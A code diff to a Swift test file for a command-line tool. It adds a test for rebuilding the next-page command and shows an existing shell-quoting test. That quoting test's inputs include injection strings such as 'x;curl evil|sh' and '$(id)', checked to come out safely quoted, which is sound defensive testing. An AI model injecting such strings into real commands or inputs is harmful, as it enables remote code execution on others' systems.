@@ -32,6 +32,14 @@ import TextCore
     }
 
     @Test(arguments: [
+        (["get"], "sample-cli get --page 2"),
+        (["--language", "ko", "get", "--store", "memory"], "sample-cli --store memory get --page 2"),
+    ])
+    func `The next page is of the same command at the same place`(typed: [String], line: String) throws {
+        #expect(try invocation(typed).commandLine(page: "page", "2") == line)
+    }
+
+    @Test(arguments: [
         ("민수", "민수"), ("é", "é"), ("Kim Minsu", "'Kim Minsu'"), ("x;curl evil|sh", "'x;curl evil|sh'"),
         ("a\u{A0}b", "'a\u{A0}b'"), ("$(id)", "'$(id)'"), ("it's", #"'it'\''s'"#), ("", "''"), ("~", "'~'"),
     ])
